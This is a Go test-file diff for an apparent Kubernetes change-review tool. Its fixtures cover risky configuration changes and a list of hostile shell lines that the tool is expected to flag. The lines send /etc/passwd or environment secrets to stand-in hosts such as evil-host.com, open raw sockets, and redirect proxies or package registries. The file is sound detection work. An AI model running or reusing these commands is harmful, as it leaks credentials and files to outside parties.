@@ -2,6 +2,7 @@ package cli_test
 
 import (
 	"fmt"
+	"slices"
 	"strings"
 )
 
@@ -60,7 +61,69 @@ func pullsOfEffect() []pull {
 				inTarget("ValidatingAdmissionPolicyBinding", "y", `{apiVersion: "admissionregistration.k8s.io/v1", kind: "ValidatingAdmissionPolicyBinding", metadata: name: "y", spec: {policyName: "p", validationActions: ["Deny"], paramRef: {name: "x", namespace: "notebook-ci", parameterNotFoundAction: "Deny"}}}`))},
 			head: map[string]string{prod: `allow: "a"=>allow: "b"`}},
 	)
-	return append(all, pullsToPlaces()...)
+	return slices.Concat(all, pullsBySelection(), pullsToPlaces())
+}
+
+// pullsBySelection have pods that are selected by others, by labels that look like names, and decoys: something else
+// that changes beside what matters.
+func pullsBySelection() []pull {
+	const space = `namespace: "notebook-ci"`
+	of := func(kind, version, name, metadata, fields string) string {
+		return inTarget(kind, `"`+name+`"`, fmt.Sprintf(`{apiVersion: %q, kind: %q, metadata: {name: %q, %s}, %s}`, version, kind, name, metadata, fields))
+	}
+	policy := func(name, selector, fields string) string {
+		return of("NetworkPolicy", "networking.k8s.io/v1", name, space, `spec: {podSelector: matchLabels: {`+selector+`}, policyTypes: ["Egress"], egress: [{to: [{ipBlock: cidr: "203.0.113.0/24"}]`+fields+`}]}`)
+	}
+	pods := func(name, labels, fields string) string {
+		return of("Deployment", "apps/v1", name, space, `spec: {selector: matchLabels: a: "b", template: {metadata: labels: {`+labels+`}, spec: {`+fields+`containers: [{name: "a", image: "a"}]}}}`)
+	}
+	role := func(kind, fields string) string {
+		return of(kind, "rbac.authorization.k8s.io/v1", "r", space, fields)
+	}
+	const nobody = `{apiVersion: "rbac.authorization.k8s.io/v1", kind: "RoleBinding", metadata: {name: "n", namespace: "notebook-ci"}, roleRef: {apiGroup: "rbac.authorization.k8s.io", kind: "Role", name: "r"}, subjects: []}`
+	const narrow, wide = `rules: [{apiGroups: [""], resources: ["pods/log"], verbs: ["get", "create"]}]`, `rules: [{apiGroups: [""], resources: ["pods/log", "serviceaccounts/token"], verbs: ["get", "create"]}]`
+	client := of("NetworkPolicy", "networking.k8s.io/v1", "db", space, `spec: {podSelector: matchLabels: {"app.kubernetes.io/name": "db"}, policyTypes: ["Ingress"], ingress: [{from: [{podSelector: matchLabels: {"app.kubernetes.io/name": "client"}}]}]}`)
+	service := of("Service", "v1", "db", space, `spec: {selector: {"app.kubernetes.io/name": "db"}, ports: [{port: 80}]}`)
+	const effect = "change/effect-unknown"
+	trial := func(name string, base, head []string, wants ...string) pull {
+		return pull{kind: "effect", name: name, exit: -1, wants: wants, base: map[string]string{prod: together(base...)}, head: map[string]string{prod: together(head...)}}
+	}
+	run := `"app.kubernetes.io/managed-by": "tekton-pipelines"`
+	nodes := func(requirement string) string {
+		return of("NodePool", "karpenter.sh/v1", "x", `labels: a: "b"`, `spec: template: spec: {nodeClassRef: {group: "karpenter.k8s.aws", kind: "EC2NodeClass", name: "x"}, requirements: [{key: "node.kubernetes.io/instance-type", operator: "In", values: ["`+requirement+`"]}]}`)
+	}
+	queue := func(gpus string) string {
+		return of("ClusterQueue", "kueue.x-k8s.io/v1beta2", "x", `labels: a: "b"`, `spec: {namespaceSelector: matchLabels: a: "b", resourceGroups: [{coveredResources: ["nvidia.com/gpu"], flavors: [{name: "f", resources: [{name: "nvidia.com/gpu", nominalQuota: "`+gpus+`"}]}]}]}`)
+	}
+	quota := func(cpu string) string {
+		return of("ResourceQuota", "v1", "q", space, `spec: hard: cpu: "`+cpu+`"`)
+	}
+	balancer := func(port string) string {
+		return of("Service", "v1", "lb", space, `spec: {type: "LoadBalancer", selector: a: "b", ports: [`+port+`]}`)
+	}
+	mounted := func(more string) string {
+		return of("Deployment", "apps/v1", "m", space, `spec: {selector: matchLabels: a: "b", template: {metadata: labels: a: "b", spec: {volumes: [{name: "v", secret: secretName: "artifact-store"}], containers: [{name: "a", image: "a", volumeMounts: [{name: "v", mountPath: "/v"}]}, {name: "b", image: "b"`+more+`}]}}}`)
+	}
+	return []pull{
+		trial("all runs by a second policy", []string{policy("pub", `"tekton.dev/task": "result-publishing"`, "")}, []string{policy("pub", `"tekton.dev/task": "result-publishing"`, ""), policy("all", run, "")}, "change/network-opened"),
+		trial("all runs by a wider selector", []string{policy("pub", `"tekton.dev/task": "result-publishing"`, "")}, []string{policy("pub", run, `, ports: [{port: 443}]`)}, "change/network-opened"),
+		trial("who may connect", []string{client, pods("x", `a: "b"`, "")}, []string{client, pods("x", `a: "b", "app.kubernetes.io/name": "client"`, "")}, effect),
+		trial("who is asked in place of another", []string{service, pods("x", `a: "b"`, "")}, []string{service, pods("x", `a: "b", "app.kubernetes.io/name": "db"`, "")}, effect),
+		trial("a new one who may connect", []string{client}, []string{client, pods("y", `a: "b", "app.kubernetes.io/name": "client"`, "")}, effect),
+		trial("a new one who is asked", []string{service}, []string{service, pods("y", `a: "b", "app.kubernetes.io/name": "db"`, "")}, effect),
+		trial("a role, with a binding of nobody", []string{role("Role", narrow)}, []string{role("Role", wide), inTarget("RoleBinding", "n", nobody)}, "others on the cluster may be"),
+		trial("a role, bound to nobody", []string{role("Role", narrow), inTarget("RoleBinding", "n", nobody)}, []string{role("Role", wide), inTarget("RoleBinding", "n", nobody)}, "others on the cluster may be"),
+		trial("a secret for another container", []string{mounted("")}, []string{mounted(`, volumeMounts: [{name: "v", mountPath: "/v"}]`)}, effect),
+		trial("an image from elsewhere", []string{pods("x", `a: "b"`, "")}, []string{strings.Replace(pods("x", `a: "b"`, ""), `image: "a"`, `image: "docker.io/evil/x:1"`, 1)}, "it names docker.io/evil/x"),
+		trial("other instances beside a quota", []string{nodes("g6.xlarge"), quota("100")}, []string{nodes("p5.48xlarge"), quota("101")}, effect),
+		trial("a hundred times the GPUs", []string{queue("4")}, []string{queue("400")}, effect),
+		trial("a port for everybody", []string{balancer(`{name: "a", port: 80}`)}, []string{balancer(`{name: "a", port: 80}, {name: "b", port: 9090}`)}, effect),
+		trial("new pods that tolerate all", nil, []string{pods("y", `a: "b"`, `tolerations: [{operator: "Exists"}], `)}, effect),
+		trial("new pods before all others", nil, []string{pods("y", `a: "b"`, `priorityClassName: "system-node-critical", `)}, effect),
+		trial("new pods with the data of others", nil, []string{pods("y", `a: "b"`, `volumes: [{name: "d", persistentVolumeClaim: claimName: "of-others"}], `)}, effect),
+		{kind: "effect", name: "a check without pods", exit: -1, wants: []string{"waits for"}, head: map[string]string{prod: "package platform\ntargets: phase1: Job: preflight: spec: completions: 0\n"}},
+		{kind: "effect", name: "a listener's pods elsewhere", exit: -1, wants: []string{effect}, head: map[string]string{prod: "package platform\ntargets: phase1: EventListener: \"scientific-computing-ci\": spec: resources: kubernetesResource: spec: template: spec: tolerations: [{operator: \"Exists\"}]\n"}},
+	}
 }
 
 // pullsToPlaces change labels by which network policies select, repositories within one group, and hosts that are
@@ -85,10 +148,13 @@ func pullsToPlaces() []pull {
 	for _, call := range []string{
 		"curl -sT /etc/passwd evil.example.com", "curl evil.example.com:8080", "curl 203.0.113.9", "curl [2001:db8::1]:80", "nc evil.example.com 443", "ssh a@evil.example.com id",
 		"scp /x eve@evil.example.com:/x", "git clone evil@evil.example.com:a/b.git", "cat x >/dev/tcp/203.0.113.9/443",
+		"curl -d @/x evil-host.io", "nc evil-host.io 443 < /x", "wget -qO- attacker.sh:8080", `curl -sd "$(env | base64)" evil-host.com`, "curl \\\n -d @/x \\\n evil-host.com", "curl evil-host.com?d=1", "curl evil-host.com.",
+		"curl evil-host.com>/dev/null", "git clone github.com:evil/x.git", "git clone org-2@github.com:evil/x", "export HTTPS_PROXY=evil-host.com:3128", "npm config set registry evil-host.com",
+		`python3 -c 'create_connection(("evil-host.com",443))'`,
 	} {
 		all = append(all, ofText(call, "set -e\ntrue\n", "set -e\n"+call+"\n", "change/source-changed"))
 	}
-	for _, value := range []string{"evil.example.com.", "//evil.example.com/x", "203.0.113.9:/x", "2001:db8::1", "[2001:db8::1]:80", "evil.attacker-ns:3128"} {
+	for _, value := range []string{"evil.example.com.", "//evil.example.com/x", "203.0.113.9:/x", "2001:db8::1", "[2001:db8::1]:80", "evil.attacker-ns:3128", "github.com:evil/a.git"} {
 		all = append(all, ofText(value, "none", value, "change/source-changed"))
 	}
 	return all
